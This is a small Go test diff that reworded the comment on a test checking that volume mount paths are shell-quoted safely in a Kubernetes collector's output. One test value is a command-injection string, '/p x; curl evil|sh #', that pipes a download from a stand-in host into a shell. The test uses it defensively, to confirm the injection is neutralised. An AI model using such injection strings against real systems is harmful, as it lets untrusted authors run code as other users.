@@ -50,8 +50,8 @@ func TestCollect(t *testing.T) {
 	require.ErrorContains(t, o.run(t.Context(), kube, "team", "shared", &out), "without --volume-per-worker")
 }
 
-// The author of a job chooses where its volumes are mounted, and could make a pod that takes the collector's name:
-// neither is executed by the user who collects.
+// A job's author chooses where its volumes are mounted and could create a pod with the collector's
+// name. The user who collects must execute neither.
 func TestCollectQuotes(t *testing.T) {
 	for path, says := range map[string]string{
 		"/p x; curl evil|sh #": "count-collect-0:'/p x; curl evil|sh #' count/worker-0\n",
